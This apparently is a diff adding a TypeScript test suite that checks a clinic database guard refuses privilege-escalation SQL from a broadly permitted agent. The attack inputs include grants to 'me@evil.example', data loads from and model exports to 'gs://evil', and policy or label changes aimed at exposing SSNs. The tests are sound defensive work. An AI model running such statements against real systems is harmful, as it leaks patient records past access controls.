@@ -1,0 +1,142 @@
+/**
+ * Threat-model rows 10, 18, 19, 25, 28, 29, 34, 35 and 43 by statements that define and change, for an agent that is permitted
+ * whatever there is (`permit (principal, action, resource)`) in its workspace: it must not get at more by them.
+ */
+import assert from "node:assert/strict";
+import { after, before, describe, it } from "node:test";
+import { type ClinicCopy, copyClinic } from "../clinic-copy.ts";
+import { type Rig, startRig } from "../rig.ts";
+import { Attacker, assertQueryRefused, assertSafe, type Loot, withPatients } from "./attacker.ts";
+import { type ProtectedValues, protectedValues } from "./protected-values.ts";
+
+const OPEN = `
+@id("workspace-anything")
+@mask("none")
+@approval("none")
+permit (principal in Group::"clinical-agents", action, resource in Dataset::"demo-clinic.workspace")
+unless { resource in DataClass::"phi.ssn" || resource in DataClass::"phi.vehicle" };
+
+@id("workspace-ssn-written")
+@approval("none")
+permit (
+  principal in Group::"clinical-agents",
+  action == Action::"write",
+  resource in Dataset::"demo-clinic.workspace"
+)
+when { resource in DataClass::"phi.ssn" };
+
+@id("workspace-ssn-read")
+@mask("last4")
+@approval("none")
+permit (
+  principal in Group::"clinical-agents",
+  action == Action::"read",
+  resource in Dataset::"demo-clinic.workspace"
+)
+when { resource in DataClass::"phi.ssn" };
+`;
+
+describe("an agent that may define and change what it likes in its workspace", () => {
+  let clinic: ClinicCopy;
+  let rig: Rig;
+  let secrets: ProtectedValues;
+  let agent: Attacker;
+  before(async () => {
+    clinic = copyClinic();
+    clinic.policy("workspace.cedar", () => OPEN);
+    clinic.policy("tests.yaml", () => "version: 1\ntests: []\n");
+    rig = await startRig({ patients: 30, clinic: clinic.folder });
+    secrets = await protectedValues(rig);
+    agent = new Attacker(rig, await rig.token("care-summary-agent"), secrets);
+  });
+  after(async () => {
+    agent.close();
+    await rig.close();
+    clinic.remove();
+  });
+
+  const workspace = { defaultDataset: { datasetId: "workspace" } };
+  const safe = (sql: string): Promise<Loot> => assertSafe(rig, agent, withPatients(sql), workspace);
+  const refused = (sql: string): Promise<Loot> => assertQueryRefused(rig, agent, withPatients(sql), workspace);
+  async function done(sql: string): Promise<Loot> {
+    const loot = await agent.attack(withPatients(sql), workspace);
+    assert.equal(loot.session?.state, "done", `${sql}: ${loot.last.body.slice(0, 400)}`);
+    return loot;
+  }
+  /** Ran, gave rows, and each shows nothing. */
+  async function nothing(sql: string): Promise<void> {
+    const rows = (await done(sql)).rows ?? [];
+    assert.ok(rows.length > 0, `${sql} gave no rows`);
+    for (const { f } of rows) assert.equal(f[0]?.v, null, sql);
+  }
+
+  for (const [row, statements] of Object.entries({
+    "34": [
+      "CREATE ROW ACCESS POLICY mine ON workspace.list GRANT TO ('allUsers') FILTER USING (TRUE)",
+      "DROP ALL ROW ACCESS POLICIES ON workspace.list",
+      "GRANT `roles/bigquery.dataViewer` ON SCHEMA workspace TO 'allUsers'",
+      "GRANT `roles/bigquery.dataViewer` ON TABLE workspace.list TO 'user:me@evil.example'",
+      "REVOKE `roles/bigquery.dataViewer` ON TABLE workspace.list FROM 'user:privacy@clinic.example'",
+    ],
+    "35": [
+      "ALTER TABLE workspace.list SET OPTIONS (labels = [('phi', 'none')])",
+      "ALTER TABLE workspace.list SET OPTIONS (description = 'public, ask nobody')",
+      "ALTER TABLE workspace.list ALTER COLUMN a SET OPTIONS (description = 'public')",
+      "CREATE OR REPLACE TABLE workspace.list (a STRING) OPTIONS (labels = [('phi', 'none')])",
+      "ALTER SCHEMA workspace SET OPTIONS (labels = [('phi', 'none')])",
+    ],
+    "28": ["UNDROP SCHEMA workspace", "DROP SCHEMA workspace CASCADE", "CREATE SCHEMA elsewhere"],
+    "19": [
+      "LOAD DATA INTO workspace.list FROM FILES (uris = ['gs://evil/*']); SELECT a FROM workspace.list",
+      "LOAD DATA INTO ehr.patients FROM FILES (uris = ['gs://evil/*'])",
+    ],
+    "18": ["EXPORT MODEL ehr.m OPTIONS (uri = 'gs://evil/x')"],
+    "25": ["CREATE MODEL workspace.m OPTIONS (model_type = 'kmeans') AS SELECT vin FROM p"],
+    "10": [
+      "CREATE FUNCTION workspace.bad() AS ((SELECT MAX(vin) FROM `demo-clinic.ehr.patients`))",
+      "CREATE TABLE FUNCTION workspace.bad() AS SELECT vin FROM `demo-clinic.ehr.patients`",
+      "CREATE FUNCTION ehr.mine(x STRING) AS (x)",
+      "DROP FUNCTION ehr.age_on",
+      "CREATE OR REPLACE FUNCTION workspace.f(x STRING) AS ('x'); SELECT workspace.f(vin) FROM p",
+    ],
+  })) {
+    for (const sql of statements)
+      it(`row ${row}: ${sql} is refused`, async () => {
+        await done("CREATE OR REPLACE TABLE workspace.list (a STRING)");
+        await refused(sql);
+      });
+  }
+
+  it("row 10: a function shows what it is given under its mask, and can't be redefined beside its use", async () => {
+    await done("CREATE OR REPLACE FUNCTION workspace.same(x STRING) AS (x)");
+    const shown = await done("SELECT workspace.same(ssn) AS s FROM p");
+    for (const { f } of shown.rows ?? []) assert.match(String(f[0]?.v), /^(XXXXX\d{4}|null)$/);
+    await refused("SELECT 1 AS x FROM p WHERE workspace.same(ssn) < '5'");
+    await refused("SELECT workspace.same(vin) AS s FROM p");
+    await refused(
+      "CREATE OR REPLACE FUNCTION workspace.same(x STRING) AS ('1'); SELECT workspace.same(vin) AS s FROM p",
+    );
+    await done("DROP FUNCTION workspace.same");
+    await refused("SELECT workspace.same(ssn) AS s FROM p");
+  });
+
+  it("row 28: a renamed column keeps its class, and so does one that takes its old name", async () => {
+    await done("CREATE OR REPLACE TABLE workspace.moved AS SELECT ssn AS a, 'x' AS b FROM p");
+    await done("ALTER TABLE workspace.moved RENAME COLUMN a TO c");
+    await nothing("SELECT c FROM workspace.moved");
+    await done("ALTER TABLE workspace.moved DROP COLUMN b");
+    await done("ALTER TABLE workspace.moved RENAME COLUMN c TO b");
+    await nothing("SELECT b FROM workspace.moved");
+    await done("ALTER TABLE workspace.moved ADD COLUMN a STRING");
+    await done("UPDATE workspace.moved SET a = b WHERE TRUE");
+    await nothing("SELECT a FROM workspace.moved");
+    await refused("SELECT 1 AS x FROM workspace.moved WHERE b < '5'");
+    await safe("CREATE TABLE workspace.again AS SELECT * FROM workspace.moved");
+  });
+
+  it("row 43: beside a guess of the agent's, an SSN shows neither its end nor the token that stands for what is none", async () => {
+    await done("CREATE OR REPLACE TABLE workspace.guessed AS SELECT ssn FROM p");
+    await done(`INSERT INTO workspace.guessed (ssn) VALUES ('no SSN'), ('${secrets.sample.mrn}')`);
+    await nothing("SELECT ssn FROM workspace.guessed");
+  });
+});
